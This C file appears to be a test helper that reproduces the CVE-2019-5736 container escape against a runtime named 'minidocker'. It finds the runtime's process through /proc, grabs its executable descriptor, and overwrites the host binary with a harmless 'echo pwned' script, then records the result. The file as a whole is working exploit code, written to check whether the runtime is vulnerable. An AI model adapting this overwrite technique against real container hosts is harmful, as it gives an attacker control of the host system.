/* CVE-2019-5736 as an attacker inside a container does it: find a process that runs minidocker's own executable
 * (exec's init, or minidocker run as a script's interpreter), stop it, open its executable through /proc/PID/exe,
 * kill it, and once nothing executes the file any more, reopen the descriptor for writing and overwrite the host's
 * binary. Says "opened" on stdout once it holds the descriptor (the file stays busy while minidocker's monitor runs:
 * the test then kills the monitor, as a crash would), and writes "write=OK" (the host binary was changed) or
 * "write=<reason>" to /result, since the log relay is gone by then. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

/* Any process whose executable is neither this program nor the image's busybox is one the runtime put there (its
 * path may not even be printable from inside: the file can sit on a mount the container cannot see). */
static int find_target(const struct stat *self, const struct stat *busybox) {
    DIR *proc = opendir("/proc");
    struct dirent *e;
    int found = 0;
    while (proc && (e = readdir(proc)) != NULL) {
        int pid = atoi(e->d_name);
        if (pid <= 1 || pid == getpid()) continue;
        char link[64];
        struct stat st;
        snprintf(link, sizeof link, "/proc/%d/exe", pid);
        if (stat(link, &st) != 0) continue;
        if ((st.st_dev == self->st_dev && st.st_ino == self->st_ino) ||
            (st.st_dev == busybox->st_dev && st.st_ino == busybox->st_ino)) continue;
        found = pid;
        break;
    }
    if (proc) closedir(proc);
    return found;
}

static void result(const char *what) {
    FILE *f = fopen("/result", "w");
    if (f) { fprintf(f, "write=%s\n", what); fclose(f); }
}

int main(void) {
    signal(SIGPIPE, SIG_IGN);
    setvbuf(stdout, NULL, _IONBF, 0);
    printf("ready\n");
    time_t deadline = time(NULL) + 120;
    struct stat me, busybox;
    if (stat("/proc/self/exe", &me) != 0 || stat("/bin/busybox", &busybox) != 0) { result("NOSTAT"); return 1; }
    int pid = 0;
    while (!(pid = find_target(&me, &busybox))) {
        if (time(NULL) > deadline) { result("NOTFOUND"); return 1; }
    }
    kill(pid, SIGSTOP);
    char link[64];
    snprintf(link, sizeof link, "/proc/%d/exe", pid);
    int fd = open(link, O_RDONLY | O_CLOEXEC);
    if (fd < 0) { result(strerror(errno)); return 1; }
    kill(pid, SIGKILL);
    printf("opened\n");
    char self[64];
    snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
    for (int i = 0; i < 6000; i++) {
        int w = open(self, O_WRONLY | O_CLOEXEC);
        if (w >= 0) {
            const char pwned[] = "#!/bin/sh\necho pwned\n";
            ssize_t n = pwrite(w, pwned, sizeof pwned - 1, 0);
            result(n > 0 ? "OK" : strerror(errno));
            return 0;
        }
        if (errno != ETXTBSY) { result(errno == EROFS ? "EROFS" : strerror(errno)); return 0; }
        usleep(10000);
    }
    result("ETXTBSY");
    return 0;
}
